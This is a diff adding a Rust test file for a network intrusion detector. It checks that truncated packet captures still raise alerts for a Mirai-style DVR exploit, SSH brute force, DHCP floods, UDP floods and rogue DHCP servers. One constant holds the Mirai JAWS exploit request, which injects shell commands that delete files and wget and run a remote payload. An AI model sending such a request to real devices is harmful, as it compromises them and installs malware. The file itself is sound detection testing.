@@ -1,0 +1,240 @@
+//! Captures cut at a snap length (64, 96, 128 bytes, as public DDoS and
+//! backbone traces are): what the kept headers, length fields and payload
+//! prefixes show must still be seen, and a head split across segments of
+//! a whole capture must not pass for a cut one.
+
+mod common;
+
+use common::lan50::*;
+use common::*;
+use ward_core::Alert;
+
+const ATK_END: End = (ATK_MAC, ATK, 46550);
+const CAM_END: End = (CAM_MAC, CAM, 80);
+
+/// Mirai's JAWS request as the demo capture has it: the request line alone
+/// is 149 bytes, so a 96- or 128-byte snap length cuts it inside the target.
+const JAWS: &str = "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.168.50.127/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 192.168.50.175\r\nUser-Agent: Hello, World\r\nAccept: */*\r\n\r\n";
+
+/// A handshake, then `segments` from the client, each kept whole or cut at
+/// `snap` bytes of frame.
+fn http_exchange(segments: &[&[u8]], snap: Option<usize>) -> Vec<Alert> {
+    let mut r = Run::new();
+    r.at(0, &tcp(ATK_END, CAM_END, 1000, "S", b""));
+    r.at(100, &tcp(CAM_END, ATK_END, 5000, "SA", b""));
+    r.at(200, &tcp(ATK_END, CAM_END, 1001, "A", b""));
+    let mut seq = 1001u32;
+    for (i, s) in segments.iter().enumerate() {
+        let f = tcp(ATK_END, CAM_END, seq, "PA", s);
+        match snap {
+            Some(n) => r.at_cut(300 + i as i64 * 100, &f, n),
+            None => r.at(300 + i as i64 * 100, &f),
+        }
+        seq = seq.wrapping_add(s.len() as u32);
+    }
+    r.alerts()
+}
+
+fn jaws_alerts(alerts: &[Alert]) -> Vec<&Alert> {
+    alerts
+        .iter()
+        .filter(|a| a.signature == "jaws-dvr-shell-injection")
+        .collect()
+}
+
+#[test]
+fn an_exploit_request_line_cut_by_the_snap_length_is_still_matched() {
+    for snap in [96, 128, 160] {
+        let alerts = http_exchange(&[JAWS.as_bytes()], Some(snap));
+        let jaws = jaws_alerts(&alerts);
+        assert_eq!(jaws.len(), 1, "snap {snap}");
+        let ev = &jaws[0].evidence;
+        assert_eq!(ev["request_cut"], true, "snap {snap}");
+        let uri = ev["uri"].as_str().unwrap();
+        assert!(uri.starts_with("/shell?cd+/tmp") && uri.len() < 70, "{uri}");
+    }
+}
+
+#[test]
+fn a_request_split_across_whole_segments_is_not_a_cut_one() {
+    // The same head in two segments, captured whole: one alert, on the
+    // whole request, not marked cut.
+    let (a, b) = JAWS.as_bytes().split_at(40);
+    let alerts = http_exchange(&[a, b], None);
+    let jaws = jaws_alerts(&alerts);
+    assert_eq!(jaws.len(), 1);
+    assert!(!jaws[0].evidence.contains_key("request_cut"));
+    assert!(jaws[0].evidence["uri"]
+        .as_str()
+        .unwrap()
+        .ends_with("/tmp/jaws"));
+    // Its first segment alone (the rest never sent) is no request at all.
+    let alerts = http_exchange(&[a], None);
+    assert!(jaws_alerts(&alerts).is_empty());
+}
+
+#[test]
+fn a_benign_request_cut_by_the_snap_length_raises_nothing() {
+    let get = b"GET /ISAPI/System/deviceInfo?format=json&session=12345 HTTP/1.1\r\nHost: cam\r\nUser-Agent: Home/3.2 CFNetwork/1410.0.3 Darwin/22.6.0\r\nAccept: */*\r\n\r\n";
+    for snap in [64, 96, 128] {
+        let alerts = http_exchange(&[get, get, get], Some(snap));
+        assert!(alerts.is_empty(), "snap {snap}");
+    }
+}
+
+#[test]
+fn ssh_password_guessing_shows_in_a_header_only_capture() {
+    // Nine short SSH connections, every frame cut after its TCP header
+    // (54 bytes): only the IP and TCP lengths say that both sides talked.
+    let mut r = Run::new();
+    let banner = b"SSH-2.0-OpenSSH_8.4p1 Debian-5\r\n";
+    let kex = [0u8; 600];
+    for i in 0..9u16 {
+        let t = i64::from(i) * 2_000_000;
+        let c: End = (ATK_MAC, ATK, 40000 + i);
+        let s: End = (CAM_MAC, CAM, 22);
+        let frames = [
+            tcp(c, s, 100, "S", b""),
+            tcp(s, c, 900, "SA", b""),
+            tcp(c, s, 101, "A", b""),
+            tcp(s, c, 901, "PA", banner),
+            tcp(c, s, 101, "PA", b"SSH-2.0-libssh2_1.9.0\r\n"),
+            tcp(s, c, 901 + banner.len() as u32, "PA", &kex),
+            tcp(c, s, 124, "PA", &kex),
+            tcp(s, c, 1501 + banner.len() as u32, "FA", b""),
+            tcp(c, s, 724, "FA", b""),
+        ];
+        for (k, f) in frames.iter().enumerate() {
+            r.at_cut(t + k as i64 * 1000, f, 54);
+        }
+    }
+    let alerts = r.alerts();
+    assert!(
+        alerts.iter().any(|a| a.signature == "ssh-bruteforce"),
+        "{alerts:?}"
+    );
+}
+
+/// A DHCP client message (BOOTREQUEST) of type `kind` from `mac`, as
+/// 240 bytes of fixed header and cookie, option 53, a parameter request
+/// list and END.
+fn dhcp_request(mac: Mac, xid: u32, kind: u8) -> Vec<u8> {
+    let mut m = vec![0u8; 240];
+    m[0] = 1; // BOOTREQUEST
+    m[1] = 1; // Ethernet
+    m[2] = 6;
+    m[4..8].copy_from_slice(&xid.to_be_bytes());
+    m[28..34].copy_from_slice(&mac);
+    m[236..240].copy_from_slice(&[99, 130, 83, 99]);
+    m.extend_from_slice(&[53, 1, kind, 55, 4, 1, 3, 6, 15, 255]);
+    udp(
+        (mac, [0, 0, 0, 0], 68),
+        ([0xff; 6], [255, 255, 255, 255], 67),
+        &m,
+    )
+}
+
+#[test]
+fn a_dhcp_flood_shows_when_the_snap_length_cut_every_message_type() {
+    // 200 REQUESTs in two seconds, each cut at 96 or 128 bytes: the message
+    // type (option 53) is gone, the fixed header says who sent what.
+    for snap in [96, 128] {
+        let mut r = Run::new();
+        for i in 0..200u32 {
+            let f = dhcp_request(ATK_MAC, 0x1000 + i, 3);
+            r.at_cut(i64::from(i) * 10_000, &f, snap);
+        }
+        let alerts = r.alerts();
+        assert!(
+            alerts.iter().any(|a| a.signature == "dhcp-flood"),
+            "snap {snap}: {alerts:?}"
+        );
+    }
+    // A device joining (DISCOVER, REQUEST) and renewing, cut alike: quiet.
+    let mut r = Run::new();
+    for (i, kind) in [1u8, 3, 3, 3].into_iter().enumerate() {
+        let f = dhcp_request(PHONE_MAC, 7, kind);
+        r.at_cut(i as i64 * 30_000_000, &f, 128);
+    }
+    assert!(r.alerts().is_empty());
+}
+
+#[test]
+fn a_random_port_udp_flood_cut_to_its_headers_is_a_flood_not_a_scan() {
+    // Mirai's `udp` attack: 512-byte datagrams to a random port each, 500
+    // a second, every frame cut at 64 bytes (22 of the 512 kept). The UDP
+    // length still says how big they were: no scanner sends such probes.
+    let mut r = Run::new();
+    let mut x = 7u32;
+    for i in 0..2000i64 {
+        x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345);
+        let dp = (x >> 16) as u16 | 1;
+        let f = udp((ATK_MAC, ATK, 40000), (CAM_MAC, CAM, dp), &[0x5a; 512]);
+        r.at_cut(1_000_000 + i * 2000, &f, 64);
+    }
+    let alerts = r.alerts();
+    assert!(
+        alerts.iter().any(|a| a.signature == "udp-flood"),
+        "{alerts:?}"
+    );
+    assert!(
+        !alerts.iter().any(|a| a.category.as_str() == "recon"),
+        "{alerts:?}"
+    );
+}
+
+/// A DHCP server's BOOTREPLY (an ACK with its server id) from `src`.
+fn dhcp_reply(src: (Mac, V4), server_id: V4, xid: u32) -> Vec<u8> {
+    let mut m = vec![0u8; 240];
+    m[0] = 2; // BOOTREPLY
+    m[1] = 1;
+    m[2] = 6;
+    m[4..8].copy_from_slice(&xid.to_be_bytes());
+    m[28..34].copy_from_slice(&PHONE_MAC);
+    m[236..240].copy_from_slice(&[99, 130, 83, 99]);
+    m.extend_from_slice(&[53, 1, 5, 54, 4]);
+    m.extend_from_slice(&server_id);
+    m.push(255);
+    udp(
+        (src.0, src.1, 67),
+        ([0xff; 6], [255, 255, 255, 255], 68),
+        &m,
+    )
+}
+
+fn rogue_alerts(alerts: &[Alert]) -> usize {
+    alerts
+        .iter()
+        .filter(|a| a.signature == "rogue-dhcp-server")
+        .count()
+}
+
+#[test]
+fn a_second_dhcp_server_shows_in_cut_replies_when_its_mac_names_it() {
+    // The network's server, then another on the LAN (its own MAC and
+    // address), both cut at 128 bytes: option 54 is gone, the sender is not.
+    let mut r = Run::new();
+    r.at_cut(0, &dhcp_reply((GW_MAC, GW), GW, 1), 128);
+    r.at_cut(1_000_000, &dhcp_reply((ATK_MAC, ATK), ATK, 2), 128);
+    assert_eq!(rogue_alerts(&r.alerts()), 1);
+}
+
+#[test]
+fn relayed_dhcp_replies_in_header_only_raw_ip_are_no_rogue_servers() {
+    // One server behind relay agents: in raw IP cut at 64 bytes every reply
+    // shows only the relay it came from (no MAC, no option 54). Captured
+    // whole, option 54 names the one server.
+    for cut in [true, false] {
+        let mut r = Run::new();
+        for i in 0..5u8 {
+            let relay: V4 = [10, 0, i, 1];
+            let f = dhcp_reply((GW_MAC, relay), [10, 9, 9, 9], u32::from(i));
+            if cut {
+                r.at_raw_cut(i64::from(i) * 1_000_000, &f, 64);
+            } else {
+                r.at_raw_cut(i64::from(i) * 1_000_000, &f, f.len());
+            }
+        }
+        assert_eq!(rogue_alerts(&r.alerts()), 0, "cut: {cut}");
+    }
+}
